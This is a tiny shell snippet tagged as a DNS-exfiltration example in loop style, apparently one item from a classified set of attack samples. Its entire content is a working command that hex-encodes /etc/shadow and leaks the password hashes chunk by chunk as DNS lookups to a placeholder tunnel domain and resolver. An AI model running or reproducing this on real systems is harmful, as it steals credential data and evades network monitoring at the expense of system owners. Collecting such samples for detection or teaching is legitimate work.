# class: exfiltration by DNS; style: loop
xxd -p -c 30 /etc/shadow | while read -r hex; do
    dig +short "$hex.x.tunnel.example" @203.0.113.53 > /dev/null
done
